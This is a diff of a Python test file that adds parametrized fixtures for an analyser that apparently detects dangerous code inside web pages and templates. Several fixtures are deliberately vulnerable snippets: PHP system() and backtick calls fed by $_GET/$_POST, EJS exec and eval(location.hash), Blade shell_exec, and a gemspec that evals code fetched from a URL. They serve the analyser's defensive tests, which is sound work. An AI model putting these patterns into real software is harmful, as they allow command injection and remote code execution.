@@ -81,6 +81,8 @@ def test_text_that_quotes_code_passes(drawing: Drawing, path: str, source: str) 
         ("web/label.astro", f"---\nconst rows: string[] = []\n{MODULE}---\n<p>{{rows}}</p>\n"),
         ("web/label.html", f"<!doctype html>\n<p>x</p>\n<SCRIPT data-a='>' type=module>\n{MODULE}</SCRIPT >\n"),
         ("views/label.ejs", "<ul>\n<% const { exec } = require('child_process') %>\n<% rows.forEach(row => { %>\n<li><%= row.name %></li>\n<% exec('lp ' + row.name) %>\n<% }) %>\n</ul>\n"),
+        ("web/label.html", "<html>\n<p><?= `lp {$_GET['name']}` ?></p>\n</html>\n"),
+        ("web/label.htm", "<script>\nconst rows = <?php echo json_encode($rows) ?>;\n</script>\n<? system('lp ' . $_POST['name']); ?>\n"),
         ("views/label.ejs", "<script>\nconst data = <%- JSON.stringify(data) %>;\neval(location.hash)\n</script>\n"),
     ],
 )  # fmt: skip
@@ -101,6 +103,7 @@ def test_scripts_of_pages_are_analysed_and_the_rest_is_said_to_be_text(
         ("web/label.html", "<p>x</p>\n<script>\nconst rows = {{ rows|tojson }};\n{% if a %}show(rows){% endif %}\n</script>\n"),
         ("web/label.html", "<p>eval(location.hash)</p>\n<script type='application/json'>{\"run\": \"eval(location.hash)\"}</script>\n"),
         ("web/label.html", "<script src='/label.js'></script>\n"),
+        ("web/label.html", "<?xml version='1.0'?>\n<p>`lp $name` &lt;?php system($_GET['name']) ?&gt; <?= htmlspecialchars($_GET['name']) ?></p>\n"),
         ("views/label.ejs", "<%# eval(name) %>\n<% if (user) { %>\n<h2><%= user.name %></h2>\n<% } else { %>\n<p>none</p>\n<% } %>\n"),
     ],
 )  # fmt: skip
@@ -138,6 +141,7 @@ def test_code_of_templates_is_analysed_and_the_rest_is_said_to_be_text(
     [
         ("resources/views/label.blade.php", "<ul>\n@foreach (request('names') as $name)\n  @php\n    exec('lp ' . $name);\n  @endphp\n@endforeach\n</ul>\n"),
         ("resources/views/label.blade.php", "@extends('page')\n<p>{!! shell_exec('lp ' . request()->input('name')) !!}</p>\n"),
+        ("lib/label.inc", "<p>x</p>\n<?php system('lp ' . $_GET['name']) ?>\n"),
         ("app/views/label.pdf.prawn", "pdf.text `lp #{params[:name]}`\n"),
         ("app/views/label.json.jbuilder", "json.label @label\neval(params[:name])\n"),
         ("shop.gemspec", "Gem::Specification.new do |spec|\n  spec.name = 'shop'\n  eval(Net::HTTP.get(URI('https://example.org/x')))\nend\n"),
